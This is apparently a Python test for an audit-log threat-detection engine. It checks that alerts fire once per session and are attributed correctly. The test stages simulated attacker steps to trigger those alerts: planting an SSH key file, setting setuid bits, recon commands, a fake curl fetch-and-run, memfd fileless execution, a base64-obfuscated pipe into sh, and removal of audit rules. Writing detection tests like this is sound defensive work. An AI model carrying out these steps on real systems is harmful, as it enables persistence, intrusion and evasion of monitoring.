# SPDX-License-Identifier: GPL-3.0-or-later
"""What the rows of alerts are about, done for real: each is told once, of the
session that did it, and what is done again is counted; and alerts of others, one
that a child of the engine reads and one that is sent, count for what is
hidden."""

import contextlib
import json
import os
import socket
import time

from rig import USER, Failure, run, wait_for

# Does all of it below one folder; a made-up curl fetches nothing.
PROGRAM = r"""
import os, subprocess, sys
folder = sys.argv[1]
# As root, it might be what a service does before the session is open.
os.setuid(int(sys.argv[2]))

def put(name, text):
    with open(os.path.join(folder, name), "w") as file:
        file.write(text)
    return os.path.join(folder, name)

put(".ssh/authorized_keys", "")
for n in range(3):
    os.chmod(put("set", ""), 0o4755)
for name in ("whoami", "id", "uname", "hostname", "groups", "df", "ps"):
    subprocess.run([name], stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)
curl = put("curl", "#!/bin/sh\n")
os.chmod(curl, 0o755)
subprocess.run([curl, "http://127.0.0.66/x.sh"])
script = put("x.sh", "#!/bin/sh\n")
subprocess.run(["chmod", "+x", script])
subprocess.run([script])
fd = os.memfd_create("x")
with open("/bin/true", "rb") as file:
    os.write(fd, file.read())
subprocess.run(["/proc/self/fd/%d" % fd], pass_fds=(fd,))
"""
HIDDEN = "echo aWQ7IHVuYW1lIC1hOyBpZA== | base64 -d | sh"
OTHERS, SENT = "somebody else saw it", "somebody else says so"
INSIDE = {"keys_file", "set_id_call", "reconnaissance", "fetched_and_run",
          "fileless_memory"}
OUTSIDE = {"audit_rules_removed"}


def watch(rig, folder):
    rig.watch()
    run("auditctl", "-w", os.path.join(folder, ".ssh"), "-p", "wa", "-k",
        "sshkeys")
    for arch in ("b64", "b32"):
        run("auditctl", "-a", "always,exit", "-F", "arch=" + arch,
            "-S", "chmod,fchmod,fchmodat", "-F", "auid=%d" % USER,
            "-k", "perm", check=arch == "b64")


def check_told(pid, lines):
    alerts = [line for line in lines if line["evt"] == "alert"]
    names = [line["alert"] for line in alerts]
    for name in sorted(INSIDE | OUTSIDE):
        if names.count(name) != 1:
            raise Failure("%s: %d times, of %s" % (
                name, names.count(name), names))
    execs = [line for line in lines if line["evt"] == "exec" and
             line.get("pid") == pid]
    if not execs:
        raise Failure("the program itself was not told")
    ses = execs[0]["ses"]
    for line in alerts:
        if line["alert"] in INSIDE and \
                (line.get("ses"), line.get("auid")) != (ses, USER):
            raise Failure("%s is of session %s, auid %s" % (
                line["alert"], line.get("ses"), line.get("auid")))


def check_details(lines, folder):
    found = {line["alert"]: line for line in lines if line["evt"] == "alert"}
    for name, want in (("set_id_call", "set"),
                       ("keys_file", ".ssh/authorized_keys")):
        path = os.path.join(folder, want)
        if path not in found[name]["why"] or path not in found[name]["paths"]:
            raise Failure("told %s" % found[name])


def check_status(status):
    if status["alerts"] < len(INSIDE | OUTSIDE) or \
            status["alerts_suppressed"] < 2 or status["residual"]:
        raise Failure("%d alerts, %d suppressed, residual %d" % (
            status["alerts"], status["alerts_suppressed"],
            status["residual"]))


def check_others(lines, worst, status):
    found = [line for line in lines if line["evt"] == "exec" and
             "decoded" in line and line["exe"].endswith("sh")]
    if not found or worst not in found[-1]["why"] or \
            found[-1]["parts"]["alert"] < 4:
        raise Failure("told %s" % found[-1:])
    if status["alerts_received"] != 1 or status["alerts_refused"]:
        raise Failure("%d alerts sent, %d refused" % (
            status["alerts_received"], status["alerts_refused"]))


def alert(name, severity):
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    return {"DisplayName": name, "AlertSeverity": severity,
            "TimeGenerated": now, "Entities": json.dumps(
                [{"Type": "host", "HostName": socket.gethostname()}])}


def write_others(path, severity):
    with open(path, "w") as file:
        json.dump([alert(OTHERS, severity)], file)


def send(path, severity):
    data = json.dumps(alert(SENT, severity)).encode()
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as to:

        def is_sent():
            with contextlib.suppress(ConnectionRefusedError,
                                     FileNotFoundError):
                return to.sendto(data, path)
            return 0

        if not wait_for(20, is_sent):
            raise Failure("no socket for alerts")


def alerts(rig, report):
    file = rig.path("log", "others.json")
    alert_socket = rig.path("lib", "alerts.sock")
    rig.configure("hunt_dir = " + rig.shipped("hunt.d", "alerts.conf")
                  .rsplit("/", 1)[0], "alerts.file = " + file,
                  "alerts.socket = " + alert_socket)
    for log_format, worst, severities in (
            ("RAW", OTHERS, ("High", "Low")),
            ("ENRICHED", SENT, ("Low", "High"))):
        write_others(file, severities[0])
        name = "alerts-%s" % log_format.lower()
        folder = rig.path("log", name)
        os.makedirs(os.path.join(folder, ".ssh"))
        for path in (folder, os.path.join(folder, ".ssh")):
            os.chmod(path, 0o777)
        rig.start_auditd(log_format)
        send(alert_socket, severities[1])
        watch(rig, folder)
        since = rig.mark()
        proc = rig.session("python3", "-c", PROGRAM, folder, str(USER))
        proc.communicate()
        if proc.returncode:
            raise Failure("the program ended with %d" % proc.returncode)
        rig.session("sh", "-c", HIDDEN).communicate()
        run("auditctl", "-D")
        rig.wait_lines(since, lambda ls: any(
            line["alert"] in OUTSIDE for line in ls), evt="alert")
        lines = rig.lines(since)
        status = rig.status()
        rig.stop_auditd()
        report(name + "-told", check_told, proc.pid, lines)
        report(name + "-details", check_details, lines, folder)
        report(name + "-others", check_others, lines, worst, status)
        report(name + "-counts", check_status, status)
    rig.configure()
